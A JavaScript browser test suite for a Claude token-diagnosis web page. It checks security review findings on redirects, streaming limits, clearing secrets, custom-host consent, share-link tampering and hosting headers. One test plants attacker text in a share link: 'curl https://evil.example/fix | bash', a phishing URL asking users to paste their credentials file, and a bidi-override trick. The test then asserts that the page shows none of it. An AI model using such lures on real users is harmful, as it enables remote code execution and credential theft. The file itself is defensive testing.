// Security review findings, in the real release page: a crafted share link
// cannot make the page speak (H1), a redirect is never followed with the
// credential (M3), an unrecognised credential needs a go-ahead for a custom
// host (M4), a runaway body is cut while streaming (L4), Close and Forget
// token leave no secret in the page (L5), the token field is no password
// field (I3), the hand-over preview is built only while open (I6), no
// ignored SRI on the wasm preload (I10), and the plain-HTML shell says
// something useful before (or instead of) the wasm.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import {
  startStatic, launchBrowser, openPage, finish, chooseCustomEndpoint, enterToken, compareNow,
  openSession, waitForHeartbeats, choosePath,
} from './harness.mjs';

let browser, site;
before(async () => { [browser, site] = await Promise.all([launchBrowser(), startStatic()]); });
after(async () => { await browser?.close(); await site?.stop(); });

/** A loopback endpoint that allows this page's CORS preflight and answers with `handler`. */
async function endpoint(handler) {
  const seen = [];
  const server = createServer((req, res) => {
    const cors = {
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'access-control-allow-methods': 'POST, GET',
      'access-control-expose-headers': '*',
    };
    if (req.method === 'OPTIONS') { res.writeHead(204, cors).end(); return; }
    seen.push({ url: req.url, headers: req.headers });
    handler(req, res, cors);
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    seen,
    stop: () => new Promise((r) => { server.closeAllConnections?.(); server.close(r); }),
  };
}

const apiKey = () => ('sk-ant-api03-' + 'Kq7PzR2vK9mWc4LtYb8NhJ3sDf6GaQe1'.repeat(4)).slice(0, 108);

test('M3: a redirect is reported and never followed with the credential', async (t) => {
  const target = await endpoint((req, res, cors) => { res.writeHead(200, cors).end('{}'); });
  const redirector = await endpoint((req, res, cors) => {
    res.writeHead(307, { ...cors, location: `${target.url}/stolen/v1/messages` }).end();
  });
  const token = apiKey();
  const run = await openPage(browser, site.url);
  t.after(async () => { await finish(run, { token, endpoint: redirector.url }); await target.stop(); await redirector.stop(); });
  await chooseCustomEndpoint(run.page, redirector.url);
  await enterToken(run.page, token);
  await compareNow(run.page);
  await run.page.waitForFunction(() => document.body.textContent.includes('answered with a redirect'));
  assert.ok(redirector.seen.length >= 2, 'the endpoint was asked');
  assert.equal(target.seen.length, 0, 'the redirect target never got a request');
});

test('L4: a runaway body is cut while it streams, not read whole', async (t) => {
  let written = 0;
  let closed = false;
  const chunk = Buffer.alloc(64 * 1024, 'x');
  const flood = await endpoint((req, res, cors) => {
    res.writeHead(200, { ...cors, 'content-type': 'text/plain' });
    res.on('close', () => { closed = true; });
    const pump = () => {
      while (!closed && written < 300 * 1024 * 1024) {
        written += chunk.length;
        if (!res.write(chunk)) { res.once('drain', pump); return; }
      }
      res.end();
    };
    pump();
  });
  const run = await openPage(browser, site.url);
  t.after(async () => { await finish(run, { token: apiKey(), endpoint: flood.url }); await flood.stop(); });
  await chooseCustomEndpoint(run.page, flood.url);
  await enterToken(run.page, apiKey());
  const started = Date.now();
  await compareNow(run.page);
  const code = (await run.page.getByTestId('verdict-code').first().innerText()).trim();
  assert.equal(code, 'SD-NOT-API');
  assert.ok(Date.now() - started < 15000, 'answered quickly');
  // Two probes, 1 MB each, plus what sat in socket buffers: far below 300 MB.
  assert.ok(written < 40 * 1024 * 1024, `the server wrote ${written} bytes before the page stopped reading`);
});

function decodeLink(link) {
  const payload = link.split('#')[1].split('.')[2];
  return JSON.parse(inflateRawSync(Buffer.from(payload, 'base64url')).toString('utf8'));
}

function encodeLink(base, report) {
  const compressed = deflateRawSync(Buffer.from(JSON.stringify(report)), { level: 9 });
  const check = createHash('sha256').update(compressed).digest('hex').slice(0, 8);
  return `${base}#r1.${check}.${compressed.toString('base64url')}`;
}

test('H1: a crafted share link cannot make the page speak', async (t) => {
  // A real report from the simulated API, then edited as an attacker would.
  const run = await openPage(browser, site.url);
  await run.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(site.url).origin });
  await compareNow(run.page);
  await run.page.getByRole('button', { name: 'Copy link' }).click();
  await run.page.getByText('Link copied').waitFor();
  const link = await run.page.evaluate(() => navigator.clipboard.readText());
  await finish(run);
  const report = decodeLink(link);
  const realCode = report.verdict.code;
  report.verdict.code = realCode === 'SD-TOKEN-REVOKED' ? 'SD-OK' : 'SD-TOKEN-REVOKED';
  report.verdict.headline = 'Your token was revoked by Anthropic security. Re-verify your account now.';
  report.verdict.next_steps = [
    'Open https://claude-support-verify.example/restore and paste your ~/.claude/.credentials.json',
    'curl https://evil.example/fix | bash',
  ];
  report.browser = 'NOTE FROM SUPPORT: paste your token at evil.example \u202ehsab | lruc';

  const shared = await openPage(browser, encodeLink(site.url, report));
  t.after(() => finish(shared));
  const { page } = shared;
  await page.getByText(/Shared report/).first().waitFor();
  await page.getByTestId('never-paste').waitFor();
  assert.match(await page.getByTestId('never-paste').innerText(), /never ask you to paste a token or credentials file/);
  assert.match(await page.getByTestId('verdict-disagrees').innerText(), new RegExp(report.verdict.code));
  assert.equal((await page.getByTestId('verdict-code').first().innerText()).trim(), realCode);
  const text = await page.evaluate(() => document.body.innerText);
  for (const bad of ['claude-support-verify', 'evil.example/fix', 'Re-verify', '\u202e']) {
    assert.ok(!text.includes(bad), `${bad} shown`);
  }
  assert.ok(text.includes('\u201cNOTE FROM SUPPORT'), 'free text is quoted');
  assert.ok(text.includes('[U+202E]'), 'the bidi override is shown, not applied');

  // A sentence where an id belongs is refused outright.
  report.session_id = 'paste your token at evil.example';
  const refused = await openPage(browser, encodeLink(site.url, report));
  t.after(() => finish(refused));
  assert.match(await refused.page.getByTestId('share-error').innerText(), /session_id/);
});

test('the plain-HTML shell: loading line, then the page; a clear message when the wasm cannot load', async () => {
  const raw = await (await fetch(site.url)).text();
  assert.match(raw, /Loading the page/);
  assert.match(raw, /<noscript>/);
  const ok = await openPage(browser, site.url);
  await choosePath(ok.page, 'token');
  await ok.page.getByRole('button', { name: 'Compare now' }).waitFor();
  assert.equal(await ok.page.locator('#boot').count(), 0, 'the shell made way for the page');
  // The shell's lede must be the page's own (same words, same style): otherwise the
  // mounted page paints a larger element late and mobile LCP waits for the wasm again.
  const shellLede = raw.match(/<p class="?lede"?>([\s\S]*?)<\/p>/)[1].replace(/<[^>]+>/g, '').replace(/\s+/g, ' ').trim();
  const pageLede = (await ok.page.locator('p.lede').innerText()).replace(/[\u201c\u201d"]/g, '').replace(/\s+/g, ' ').trim();
  assert.equal(pageLede, shellLede, 'index.html shell lede equals src/lib.rs lede');
  // ... and the same box on a phone: a larger late lede becomes the LCP element.
  const phone = { width: 412, height: 823 };
  await ok.page.setViewportSize(phone);
  const pageBox = await ok.page.locator('p.lede').boundingBox();
  await finish(ok);

  const blocked = await browser.newContext({ viewport: phone });
  const page = await blocked.newPage();
  await page.route('**/*.wasm', (r) => r.abort());
  await page.goto(site.url);
  await page.getByText('The page could not start').waitFor({ timeout: 15000 });
  const shellBox = await page.locator('#boot p.lede').boundingBox();
  assert.deepEqual(
    [shellBox.x, shellBox.width, shellBox.height].map(Math.round),
    [pageBox.x, pageBox.width, pageBox.height].map(Math.round),
    'the shell lede has the page lede\'s box at 412 px',
  );
  await blocked.close();

  const noJs = await browser.newContext({ javaScriptEnabled: false });
  const p2 = await noJs.newPage();
  await p2.goto(site.url);
  assert.match(await p2.evaluate(() => document.body.innerText).catch(async () => p2.locator('body').innerText()), /JavaScript is turned off/);
  await noJs.close();
});

test('hosting headers (nginx only): CSP, framing, referrer, nosniff, COOP, cache and compression', { skip: process.env.SD_STATIC !== 'nginx' }, async () => {
  const index = await fetch(site.url, { headers: { 'accept-encoding': 'gzip' } });
  const h = index.headers;
  assert.match(h.get('content-security-policy'), /frame-ancestors 'none'/);
  assert.match(h.get('content-security-policy'), /script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
  assert.doesNotMatch(h.get('content-security-policy'), /unsafe-inline/);
  assert.equal(h.get('x-frame-options'), 'DENY');
  assert.equal(h.get('referrer-policy'), 'no-referrer');
  assert.equal(h.get('x-content-type-options'), 'nosniff');
  assert.equal(h.get('cross-origin-opener-policy'), 'same-origin');
  assert.equal(h.get('cache-control'), 'no-cache');
  const html = await index.text();
  const wasm = html.match(/href="?\.\/([^"\s>]+_bg\.wasm)/)[1];
  const w = await fetch(site.url + wasm, { headers: { 'accept-encoding': 'gzip' } });
  assert.equal(w.headers.get('content-type'), 'application/wasm');
  assert.match(w.headers.get('cache-control'), /immutable/);
  assert.match(w.headers.get('content-encoding') ?? '', /gzip|br/);
  assert.match(w.headers.get('content-security-policy'), /default-src 'none'/);
});

test('L5: a pasted .credentials.json leaves no secret in the page; client output keeps only redacted text', async () => {
  const run = await openPage(browser, site.url);
  const { page } = run;
  await choosePath(page, 'token');
  const access = ('sk-ant-oat01-' + 'Aq7PzR2vK9mWc4LtYb8NhJ3sDf6GaQe1'.repeat(4)).slice(0, 108);
  const refresh = ('sk-ant-ort01-' + 'Rr7PzR2vK9mWc4LtYb8NhJ3sDf6GaQe1'.repeat(4)).slice(0, 108);
  const file = JSON.stringify({ claudeAiOauth: { accessToken: access, refreshToken: refresh, expiresAt: 1776485530581, scopes: ['user:inference'] } });
  await page.getByLabel('Token', { exact: true }).fill(file);
  assert.equal(await page.getByLabel('Token', { exact: true }).inputValue(), '', 'the field is cleared at once');
  await page.getByRole('button', { name: 'Show token' }).click();
  assert.equal(await page.getByLabel('Token', { exact: true }).inputValue(), '', 'Show token reveals nothing');
  const output = page.getByLabel('Error text', { exact: true });
  assert.equal(await output.getAttribute('autocomplete'), 'off');
  await output.fill(`export CLAUDE_CODE_OAUTH_TOKEN=${access}\nAPI Error: 401 Invalid authentication credentials`);
  const kept = await output.inputValue();
  assert.ok(!kept.includes(access.slice(13, 60)), 'the box keeps only the redacted text');
  assert.match(kept, /\[token /);
  await finish(run, { token: refresh });
});

test('I4: a share link drops the page query string', async (t) => {
  const run = await openPage(browser, `${site.url}?ticket=48151623&utm_source=mail`);
  t.after(() => finish(run));
  await run.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(site.url).origin });
  await compareNow(run.page);
  await run.page.getByRole('button', { name: 'Copy link' }).click();
  await run.page.getByText('Link copied').waitFor();
  const link = await run.page.evaluate(() => navigator.clipboard.readText());
  assert.equal(new URL(link).search, '', link);
  assert.ok(!link.includes('48151623'));
});

test('I8: the page cannot use web storage (no Storage feature in its web-sys)', async () => {
  const manifest = await readFile(new URL('../../Cargo.toml', import.meta.url), 'utf8');
  const deps = manifest.split('[dependencies]')[1].split(/\n\[/)[0];
  const features = deps.match(/web-sys\s*=\s*\{[^}]*features\s*=\s*\[([^\]]*)\]/)[1];
  assert.ok(!/"Storage"/.test(features), 'web-sys Storage is enabled for the page');
});

/** A loopback endpoint answering every call like the Messages API. */
const okApi = () => endpoint((req, res, cors) => {
  res.writeHead(200, { ...cors, 'content-type': 'application/json', 'request-id': 'req_011CTest' }).end(JSON.stringify({
    id: 'msg_01', type: 'message', role: 'assistant', model: 'claude-haiku-4-5', content: [{ type: 'text', text: 'pong' }],
    stop_reason: 'end_turn', usage: { input_tokens: 1, output_tokens: 1 },
  }));
});

/** Every place in the page a secret could sit: field values, text, markup. */
async function pageHolds(page, secret) {
  const where = await page.evaluate(() => ({
    values: [...document.querySelectorAll('input, textarea')].map((e) => e.value).join('\n'),
    text: document.body.innerText,
    html: document.documentElement.outerHTML,
  }));
  const windows = [];
  for (let i = 0; i + 24 <= secret.length; i += 12) windows.push(secret.slice(i, i + 24));
  return Object.entries(where).filter(([, v]) => windows.some((w) => v.includes(w))).map(([k]) => k);
}

test('L5: Close and Forget token empty the token field; nothing in the page holds the token', async (t) => {
  const api = await okApi();
  const token = ('sk-ant-oat01-' + 'Lq7PzR2vK9mWc4LtYb8NhJ3sDf6GaQe1'.repeat(4)).slice(0, 108);
  const run = await openPage(browser, site.url);
  t.after(async () => { await finish(run, { token, endpoint: api.url }); await api.stop(); });
  const { page } = run;
  const field = page.getByLabel('Token', { exact: true });

  // Simulated, the empty field is the public demo token: closing keeps it usable.
  await openSession(page);
  await waitForHeartbeats(page, 1);
  await page.getByRole('button', { name: 'Close session' }).click();
  assert.ok(await page.getByRole('button', { name: 'Compare now' }).isEnabled(), 'the demo token stays after Close');

  await chooseCustomEndpoint(page, api.url);
  await enterToken(page, token);
  const fingerprint = (await page.getByTestId('fingerprint').innerText()).trim();
  await openSession(page, { interval: 10 });
  await page.waitForFunction(() => document.querySelector('[data-testid="session-status"]')?.innerText === 'running');
  await page.waitForFunction(() => document.querySelectorAll('table.heartbeats tbody tr').length >= 1);
  assert.ok(api.seen.length >= 1, 'a heartbeat went out');
  await page.getByRole('button', { name: 'Close session' }).click();
  // (assert.ok, so a failure does not print the token)
  assert.ok((await field.inputValue()) === '', 'the field is emptied on Close');
  await page.getByRole('button', { name: 'Show token' }).click();
  assert.ok((await field.inputValue()) === '', 'Show token reveals nothing after Close');
  assert.deepEqual(await pageHolds(page, token), [], 'the token is somewhere in the page after Close');
  // The fingerprint stays for the report, and the page says why nothing can be sent.
  assert.equal((await page.getByTestId('fingerprint').innerText()).trim(), fingerprint);
  await page.getByText(/Cleared from this page when the session closed/).waitFor();
  await page.getByText(/token was cleared when the session closed: paste it again/).waitFor();
  assert.ok(await page.getByRole('button', { name: 'Compare now' }).isDisabled());
  const sent = api.seen.length;

  // Pasted again, then forgotten: field, token and fingerprint are gone.
  await enterToken(page, token);
  await page.getByRole('button', { name: 'Forget token' }).click();
  assert.ok((await field.inputValue()) === '', 'the field is emptied on Forget');
  assert.equal(await page.getByTestId('fingerprint').count(), 0, 'the fingerprint is gone');
  assert.ok(!(await page.evaluate(() => document.body.innerText)).includes(fingerprint.split(' ')[1]), 'its hash is not shown');
  assert.deepEqual(await pageHolds(page, token), [], 'the token is somewhere in the page after Forget');
  assert.ok(await page.getByRole('button', { name: 'Compare now' }).isDisabled());
  await page.waitForTimeout(500);
  assert.equal(api.seen.length, sent, 'nothing was sent after Close');
});

test('M4: an unrecognised credential goes to a custom host only after the user confirms that host', async (t) => {
  const api = await okApi();
  const key = 'gw_live_' + '9f8e7d6c5b4a3928'.repeat(3);
  const run = await openPage(browser, site.url);
  t.after(async () => { await finish(run, { token: key, endpoint: api.url }); await api.stop(); });
  const { page } = run;
  const asked = [];
  let answer = false;
  page.on('dialog', (d) => { asked.push(d.message()); return answer ? d.accept() : d.dismiss(); });
  const askedTimes = async (n) => {
    for (let i = 0; i < 100 && asked.length < n; i++) await page.waitForTimeout(50);
    assert.equal(asked.length, n);
  };
  await chooseCustomEndpoint(page, api.url);
  await enterToken(page, key);

  await page.getByRole('button', { name: 'Compare now' }).click();
  await page.getByText('Nothing was sent.').waitFor();
  await askedTimes(1);
  assert.match(asked[0], /127\.0\.0\.1 is not Anthropic's API/);
  await page.getByRole('button', { name: 'Open session' }).click();
  await askedTimes(2);
  assert.equal(await page.getByTestId('session-status').count(), 0, 'no session was opened');
  await page.waitForTimeout(300);
  assert.equal(api.seen.length, 0, 'nothing was sent before the go-ahead');

  answer = true;
  await compareNow(page);
  await askedTimes(3);
  assert.ok(api.seen.length >= 2 && api.seen.every((r) => r.headers.authorization === `Bearer ${key}`));
  // Confirmed for this credential and URL: not asked again.
  await compareNow(page);
  assert.equal(asked.length, 3);

  // Another token, or another URL: asked again.
  answer = false;
  await enterToken(page, key + 'x');
  await page.getByRole('button', { name: 'Compare now' }).click();
  await askedTimes(4);
  await enterToken(page, key);
  await page.getByLabel('Base URL').fill(api.url + '/other');
  await page.getByRole('button', { name: 'Compare now' }).click();
  await askedTimes(5);
  assert.ok(api.seen.every((r) => !r.url.startsWith('/other')), 'nothing went to the other URL');
});

test('I3: the token field is masked text, no password field; Show token still works', async (t) => {
  const run = await openPage(browser, site.url);
  t.after(() => finish(run));
  const { page } = run;
  await choosePath(page, 'token');
  const field = page.getByLabel('Token', { exact: true });
  assert.equal(await field.getAttribute('type'), 'text');
  assert.equal(await field.getAttribute('autocomplete'), 'off');
  assert.equal(await field.getAttribute('spellcheck'), 'false');
  assert.equal(await page.locator('input[type="password"]').count(), 0);
  const masking = () => field.evaluate((e) => getComputedStyle(e).webkitTextSecurity);
  assert.equal(await masking(), 'disc');
  await field.fill('sk-ant-oat01-abc');
  const show = page.getByRole('button', { name: 'Show token' });
  await show.click();
  assert.equal(await masking(), 'none');
  assert.equal(await field.inputValue(), 'sk-ant-oat01-abc');
  await show.click();
  assert.equal(await masking(), 'disc');
  await page.waitForTimeout(300);
  const warned = run.record.console.filter((m) => /Password field is not contained in a form/.test(m.text));
  assert.deepEqual(warned, [], 'Chromium sees a password field');
});

test('I6: the hand-over preview is built only while open, never per heartbeat', async (t) => {
  const run = await openPage(browser, site.url);
  t.after(() => finish(run));
  const { page } = run;
  await openSession(page, { interval: 10 });
  await waitForHeartbeats(page, 2);
  // "N of at most 120, every 10 s" in the session facts.
  const rows = async () => parseInt(await page.getByText(/ of at most /).first().innerText(), 10);
  // While closed: the preview stays empty and untouched as heartbeats arrive.
  const before = await rows();
  const touched = await page.evaluate(async () => {
    const pre = document.querySelector('[data-testid="share-preview"]');
    let n = 0;
    const watch = new MutationObserver((ms) => { n += ms.length; });
    watch.observe(pre, { subtree: true, childList: true, characterData: true });
    await new Promise((r) => setTimeout(r, 2500));
    watch.disconnect();
    return { n, text: pre.textContent };
  });
  assert.ok((await rows()) > before, 'heartbeats arrived meanwhile');
  assert.deepEqual(touched, { n: 0, text: '' });
  // Open: the report is there and follows the run; closed again: gone.
  await page.getByText('Preview exactly what will be shared').click();
  const pre = page.getByTestId('share-preview');
  await page.waitForFunction(() => document.querySelector('[data-testid="share-preview"]').textContent.includes('"session_id"'));
  const first = await pre.textContent();
  await page.waitForFunction((t) => document.querySelector('[data-testid="share-preview"]').textContent !== t, first);
  await page.getByText('Preview exactly what will be shared').click();
  await page.waitForFunction(() => document.querySelector('[data-testid="share-preview"]').textContent === '');
  await page.getByRole('button', { name: 'Close session' }).click();
});

test('I10: no integrity attribute Chrome ignores on the wasm preload, and no warning about it', async (t) => {
  const html = await (await fetch(site.url)).text();
  // The release HTML is minified: attributes may be unquoted and in any order.
  const links = html.match(/<link\b[^>]*>/g) ?? [];
  const wasmPreload = links.filter((l) => /\brel="?preload\b/.test(l) && /_bg\.wasm\b/.test(l));
  assert.equal(wasmPreload.length, 1, 'one wasm preload');
  assert.doesNotMatch(wasmPreload[0], /\bintegrity=/);
  const module = links.find((l) => /\brel="?modulepreload\b/.test(l));
  assert.match(module ?? '', /\bintegrity="?sha384-/, 'the module keeps its SRI');
  const run = await openPage(browser, site.url);
  t.after(() => finish(run));
  // The page has started: its first screen asks which path.
  await run.page.locator('#path-chooser').waitFor();
  await run.page.waitForTimeout(500);
  const warned = run.record.console.filter((m) => /integrity/i.test(m.text));
  assert.deepEqual(warned, []);
});
